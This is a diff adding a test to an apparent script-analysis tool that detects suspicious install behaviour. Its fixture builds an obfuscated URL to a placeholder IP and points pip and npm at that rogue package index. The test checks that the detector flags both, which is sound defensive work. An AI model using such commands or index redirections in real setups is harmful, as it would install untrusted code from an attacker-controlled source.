@@ -166,6 +166,18 @@ def test_downloaded_exe_started_hidden(tmp_path: Path) -> None:
     assert (Kind.CONCEAL, "hidden window") in summary(found)
 
 
+def test_native_package_managers_get_the_folded_urls(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$ix = 'http://' + (@(203,0,113,9) -join '.') + '/simple/'\n"
+        "python -m pip install --index-url $ix -U black\n"
+        "npm config set registry http://203.0.113.9:4873/\n",
+    )
+    indexes = {(c.detail, c.chain[-1].line) for c in found if c.kind == Kind.INSTALL_INDEX}
+    assert ("http://203.0.113.9/simple/", 2) in indexes
+    assert ("http://203.0.113.9:4873/", 3) in indexes
+
+
 def test_ordinary_setup_script_yields_nothing(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
